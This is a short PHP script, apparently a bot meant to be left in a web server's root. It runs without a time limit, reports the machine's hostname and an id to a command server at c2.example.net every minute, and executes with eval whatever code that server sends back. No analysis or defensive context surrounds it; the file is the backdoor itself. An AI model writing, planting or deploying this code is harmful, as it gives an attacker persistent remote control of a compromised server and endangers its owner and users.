<?php
// A bot left running in the web root: it asks its controller for a task every minute, naming the
// machine, and runs whatever code comes back.
@set_time_limit(0);
@ignore_user_abort(true);
$id = md5(php_uname() . __FILE__);
while (true) {
    $task = @file_get_contents('http://c2.example.net/api/task.php?bot=' . $id . '&h=' . gethostname());
    if ($task !== false && $task !== '') {
        @eval($task);
    }
    sleep(60);
}
